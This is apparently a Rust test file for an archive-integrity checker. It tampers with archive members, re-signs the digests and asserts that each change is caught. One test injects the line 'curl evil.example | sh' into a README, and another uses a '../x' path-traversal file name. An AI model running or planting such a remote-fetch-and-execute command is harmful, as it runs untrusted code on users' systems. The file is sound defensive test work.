//! Parts that were changed by somebody who knows the format, and made all digests fit again.

use std::ops::ControlFlow;
use std::path::Path;

use super::*;
use crate::tiles::TilePath;

/// A member with other bytes, or none, in an archive whose manifest and sums say that this is right.
fn resealed(root: &Path, member: &str, change: impl FnOnce(Vec<u8>) -> Option<Vec<u8>>) {
    let mut manifest = Manifest::read(&fs::read(root.join("manifest.json")).unwrap()).unwrap();
    let place = manifest.files.iter().position(|file| file.name == member);
    let bytes = change(fs::read(root.join(member)).unwrap_or_default());
    match (bytes, place) {
        (None, Some(place)) => {
            fs::remove_file(root.join(member)).unwrap();
            // An empty folder would be found for itself; others stay.
            let _ = fs::remove_dir(root.join(member).parent().unwrap());
            manifest.files.remove(place);
        }
        (Some(bytes), place) => {
            let path = root.join(member);
            fs::create_dir_all(path.parent().unwrap()).unwrap();
            fs::write(path, &bytes).unwrap();
            let (name, size, sha256) = (member.to_owned(), bytes.len() as u64, Digest::of(&bytes));
            let file = ListedFile { name, bytes: size, sha256 };
            match place {
                Some(place) => manifest.files[place] = file,
                None => manifest.files.push(file),
            }
        }
        (None, None) => panic!("{member}"),
    }
    manifest.files.sort_by_key(|file| file.name.parse::<Member>().unwrap());
    seal(root, &manifest);
}

fn seal(root: &Path, manifest: &Manifest) {
    fs::write(root.join("manifest.json"), manifest.text()).unwrap();
    fs::write(root.join("SHA256SUMS"), manifest.sums()).unwrap();
}

/// What is found after one member was changed.
fn check(member: &str, code: &str, change: impl FnOnce(String) -> Option<String>) {
    let made = Made::small(Packing::Folder);
    resealed(&made.path, member, |bytes| change(String::from_utf8(bytes).unwrap()).map(String::into_bytes));
    found(&made, code, member);
}

fn found(made: &Made, code: &str, what: &str) {
    let opened = Archive::open(&made.path);
    let error = opened.and_then(|archive| archive.check(&mut |_, _| ControlFlow::Continue(()))).unwrap_err();
    assert_eq!(error.code(), code, "{what}: {error}");
    assert!(error.is_of_integrity(), "{error}");
}

const EVENTS: &str = "events/00000000000000000001.jsonl";
const NOTE: &str = "checkpoints/00000000000000000003.note";

#[test]
fn events_are_held_against_the_tree() {
    check(EVENTS, "archive_contradiction", |text| Some(text.replace("消防支队", "消防大队")));
    check(EVENTS, "archive_content", |text| Some(text.split_inclusive('\n').take(5).collect()));
    check(EVENTS, "archive_line", |text| Some(text.clone() + text.lines().next().unwrap() + "\n"));
    check(EVENTS, "archive_line", |text| Some(text.replacen("\"position\":2", "\"position\":3", 1)));
    check(EVENTS, "archive_line", |text| Some(text.replacen(":2,", ": 2,", 1)));
    check(EVENTS, "archive_contradiction", |text| {
        let line = "{\"position\":6,\"missing\":true}\n";
        let old = text.split_inclusive('\n').nth(5).unwrap();
        Some(text.replace(old, line))
    });
    check(EVENTS, "archive_content", |_| None);
    let made = Made::small(Packing::Folder);
    resealed(&made.path, "tile/0/000.p/6", |mut bytes| {
        bytes[70] ^= 1;
        Some(bytes)
    });
    found(&made, "archive_contradiction", "tile");
    let extra = TilePath::new(0, 1, 3).unwrap().to_string();
    resealed(&made.path, &extra, |_| Some(vec![0; 96]));
    found(&made, "archive_extra", "tile");
}

#[test]
fn what_is_stated_is_held_against_the_rest() {
    check("exchange.toml", "archive_contradiction", |text| {
        let other = made::Key::new(9);
        let key = text.split('"').find(|part| part.starts_with('U')).unwrap().to_owned();
        Some(text.replace(&key, fengsui_event::Signer::keyid(&other).as_str()))
    });
    check("exchange.toml", "archive_content", |text| Some(text.replace("office", "police")));
    check("exchange.toml", "archive_content", |text| Some(text + "servers = []\n"));
    check("keys.jsonl", "archive_contradiction", |text| Some(text.split_inclusive('\n').skip(1).collect()));
    check("keys.jsonl", "archive_line", |text| Some(text.replace("\"since\":2", "\"since\": 2")));
    check("keys.jsonl", "archive_contradiction", |text| Some(text.replace("\"since\":2", "\"since\":2000")));
    let pem = Member::Key(fengsui_event::Signer::keyid(&made::Key::new(2))).to_string();
    let other = ArchiveKey {
        agency: "fire".parse().unwrap(),
        keyid: fengsui_event::Signer::keyid(&made::Key::new(9)),
        since: 0,
        until: None,
    };
    check(&pem, "archive_contradiction", |_| Some(other.pem()));
    check(&pem, "archive_contradiction", |_| None);
    check("README.txt", "archive_contradiction", |text| {
        Some(text.replace("sha256sum", "curl evil.example | sh; sha256sum"))
    });
    check("README.txt", "archive_missing", |_| None);
    check("rulebooks/00000000000000000002.toml", "archive_contradiction", |_| Some("version = 1".to_owned()));
    check("rulebooks/00000000000000000099.toml", "archive_contradiction", |_| Some("version = 1".to_owned()));
}

#[test]
fn checkpoints_are_held_against_the_tree() {
    check(NOTE, "archive_contradiction", |text| Some(text.replacen('—', "— x AAAAAAAA\n—", 1)));
    check(NOTE, "archive_content", |text| Some(text.replace("350600\n3\n", "350600\n2\n")));
    check(NOTE, "archive_content", |_| Some("no note".to_owned()));
    check(NOTE, "archive_contradiction", |_| None);
    check("checkpoint", "archive_contradiction", |_| None);
    check(NOTE, "archive_contradiction", |text| {
        let line = text.lines().find(|line| line.starts_with("— fengsui.cn/regions/350600 ")).unwrap().to_owned();
        Some(text.replace(&format!("{line}\n"), ""))
    });
    let made = Made::small(Packing::Folder);
    let other = leaf_hash(b"other").to_string();
    for name in [NOTE, "checkpoint"] {
        let root = |bytes: Vec<u8>| {
            let text = String::from_utf8(bytes).unwrap();
            let root = text.lines().nth(2).unwrap().to_owned();
            Some(text.replace(&root, &other).into_bytes())
        };
        resealed(&made.path, name, root);
    }
    found(&made, "archive_contradiction", "root");
}

#[test]
fn the_manifest_is_held_against_everything() {
    let change = |code: &str, change: &dyn Fn(&mut Manifest)| {
        let made = Made::small(Packing::Folder);
        let mut manifest = made.manifest.clone();
        change(&mut manifest);
        seal(&made.path, &manifest);
        found(&made, code, "manifest");
    };
    change("archive_contradiction", &|manifest| manifest.root = leaf_hash(b"other"));
    change("archive_contradiction", &|manifest| (manifest.events, manifest.missing) = (6, 0));
    change("archive_content", &|manifest| manifest.events = 7);
    change("archive_content", &|manifest| (manifest.first, manifest.events) = (2, 4));
    change("archive_content", &|manifest| manifest.not_shown = NotShown::ALL.to_vec());
    change("archive_content", &|manifest| manifest.origin = "fengsui.cn/regions/350500".to_owned());
    change("archive_content", &|manifest| manifest.region = "350500".parse().unwrap());
    change("archive_contradiction", &|manifest| manifest.checkpoint = None);
    change("archive_content", &|manifest| manifest.format = "other".to_owned());
    change("archive_missing", &|manifest| (manifest.last, manifest.events) = (7, 6));
    change("archive_content", &|manifest| (manifest.last, manifest.events) = (u64::MAX, u64::MAX - 1));
    change("archive_differs", &|manifest| manifest.files[0].bytes += 1);
    change("archive_repeated", &|manifest| manifest.files.swap(0, 1));
    change("archive_name", &|manifest| manifest.files[0].name = "../x".to_owned());
    let made = Made::small(Packing::Folder);
    seal(&made.path, &Manifest { version: 2, ..made.manifest.clone() });
    assert_eq!(Archive::open(&made.path).unwrap_err().code(), "archive_version");
    fs::write(made.path.join("manifest.json"), made.manifest.text()).unwrap();
    found(&made, "archive_content", "sums");
}
